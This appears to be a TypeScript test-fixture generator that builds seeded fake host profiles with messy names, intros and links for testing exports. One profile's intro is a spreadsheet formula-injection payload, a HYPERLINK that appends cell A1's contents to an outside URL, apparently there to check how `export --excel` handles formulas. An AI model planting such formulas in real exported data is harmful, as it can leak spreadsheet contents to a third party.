import {
  chance,
  createRandom,
  orNull,
  pick,
  type RandomStream,
  randomInteger,
  randomUuid,
} from "./random.js";

export interface Host {
  id: string;
  username: string | null;
  first_name: string | null;
  last_name: string | null;
  profile_photo: string | null;
}

export interface HostProfile extends Host {
  [field: string]: unknown;
}

export interface Person {
  profile: HostProfile;
  motto: string | null;
  /** The host's agreed commission rate in percent, or null if the default applies. */
  rate: number | null;
  weight: number;
}

export const defaultRate = 12;

const firstNames =
  "Amélie|Björn|Chloe|Diego|Éowyn|Giulia|Ibrahim|Jūratė|Kofi|Mei-Ling|Niamh|Oskar|Priya|Rosa|Søren|Tomáš|Yuki|Zoë";
const lastNames = `O'Brien|Müller|Smith, Jr.|D’Angelo|Jones "JJ"|Nguyen|Østergaard|García López|Van der Berg|Larsen 🏔️|Weiß`;
const intros =
  `I test gear so you don't have to. Mostly in the rain 🌧️|They call me "the goat", and I can't argue.|` +
  "Climbing, then coffee; in that order.\nSometimes the other way round.|Ski-Touren, Hütten und gutes Brot — für alle.|" +
  "Ultra distance, small budget, big smiles|-5 °C is shorts weather|@ the trailhead by six";
const disciplines = "Trail Running|Climbing|Cycling|Yoga|Ski Touring|Hiking".split("|");
const specialties = "Ultra|Bouldering|Gravel|Vinyasa|Beginner guides|Hut to hut".split("|");
const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paulo|Kraków".split("|");
const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");

/** A host's introduction that is a spreadsheet formula, to demonstrate `export --excel`. */
const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';

export function createPeople(seed: number): Person[] {
  return Array.from({ length: 130 }, (_, index) => createPerson(seed, index));
}

export function createPerson(seed: number, index: number): Person {
  const random = createRandom(seed, "host", index);
  const id = randomUuid(random);
  const [first, last] = [pick(random, firstNames.split("|")), pick(random, lastNames.split("|"))];
  const handle = `${first}${pick(random, ["", ".", "_"])}${last}${randomInteger(random, 1, 99)}`
    .normalize("NFD")
    .replace(/[^a-zA-Z0-9._]/g, "")
    .toLowerCase();
  const profile: HostProfile = {
    id,
    username: orNull(random, 0.05, handle),
    first_name: orNull(random, 0.04, first),
    last_name: orNull(random, 0.06, last),
    profile_photo: orNull(random, 0.1, `https://images.example.com/hosts/${id}.jpg`),
    title: orNull(random, 0.2, `${pick(random, disciplines)} coach & "${pick(random, specialties)}" fan`),
    intro: index === 3 ? formula : orNull(random, 0.15, pick(random, intros.split("|"))),
    discipline: orNull(random, 0.1, pick(random, disciplines)),
    specialty: orNull(random, 0.3, pick(random, specialties)),
    location: orNull(random, 0.15, pick(random, towns)),
    socials: orNull(random, 0.12, createSocials(random, handle)),
  };
  return {
    profile,
    motto: orNull(random, 0.4, pick(random, mottos)),
    rate: chance(random, 0.3) ? pick(random, [5, 7.5, 8, 10, 12.5, 15, 18, 20]) : null,
    weight: pick(random, [1, 1, 2, 3, 5, 8]),
  };
}

function createSocials(random: RandomStream, handle: string): Record<string, string> {
  const chosen = networks.filter(() => chance(random, 0.3));
  const names = chosen.length > 0 ? chosen : ["website"];
  return Object.fromEntries(names.map((name) => [name, `https://${name}.example.com/${handle}`]));
}

export function toHost({ profile }: Person): Host {
  const { id, username, first_name, last_name, profile_photo } = profile;
  return { id, username, first_name, last_name, profile_photo };
}

export function toContentHost({ id, username, first_name, last_name }: Host) {
  const name = [first_name, last_name].filter((part) => part !== null).join(" ");
  return { id, username, name: name === "" ? null : name };
}

export function repeatByWeight<T extends { weight: number }>(items: readonly T[]): T[] {
  return items.flatMap((item) => Array.from({ length: item.weight }, () => item));
}
